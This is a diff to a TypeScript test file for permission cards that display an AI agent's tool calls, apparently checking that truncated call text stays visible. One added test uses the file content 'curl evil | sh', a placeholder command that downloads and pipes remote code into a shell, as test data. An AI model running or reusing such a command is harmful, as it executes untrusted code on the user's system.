@@ -208,6 +208,8 @@ test('a card shows a command with its line breaks and whole, and all of a call t
     text: 'Edit: a.ts',
     call: { text: '{"edits":[', cut: true, open: true },
   })
+  const argument = { path: 'notes.txt', content: 'curl evil | sh', cut: '{"path":"notes.txt"}' }
+  expect(shown('mcp__fs__write', argument).call!.text).toContain('evil')
   expect(shown('permissions', null, 'may raise')).toMatchObject({ text: 'may raise', call: undefined })
   const html = renderToStaticMarkup(PermissionCard({ card: shown('Bash', { command: hidden }, 'Bash: ls') }))
   expect(html).toContain('<details open="">'.slice(0, -1))
